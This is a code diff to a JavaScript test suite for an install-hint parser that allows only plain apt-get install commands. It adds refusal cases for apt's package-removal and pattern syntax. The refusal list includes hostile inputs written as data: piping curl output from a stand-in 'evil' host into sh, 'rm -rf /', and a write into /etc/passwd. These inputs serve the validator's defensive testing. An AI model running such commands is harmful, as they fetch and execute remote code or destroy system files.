@@ -194,6 +194,9 @@ test('install hints: only apt-get install [-y] with package names is run, rebuil
     packages: ['libfaketime', 'faketime'],
   });
   t.is(parseInstallHint('build it from source, see the docs'), null);
+  t.deepEqual(parseInstallHint('apt-get install g++-12 libstdc++6 python3.11'), {
+    command: 'apt-get install -y g++-12 libstdc++6 python3.11',
+  });
   for (const hint of [
     'apt-get install -y x; curl http://evil | sh',
     'apt-get install -y x && rm -rf /',
@@ -207,6 +210,10 @@ test('install hints: only apt-get install [-y] with package names is run, rebuil
     'sudo apt-get install -y x',
     'apt-get install -y',
     'apt-get install -y x>/etc/passwd',
+    // apt's own syntax inside a word: `pkg-` removes a package, `pkg+` and `.+` patterns select others.
+    'apt-get install -y iptables-',
+    'apt-get install -y etcd-server+',
+    'apt-get install -y lib.+',
   ]) {
     const r = parseInstallHint(hint);
     t.truthy(r && 'refused' in r, hint);
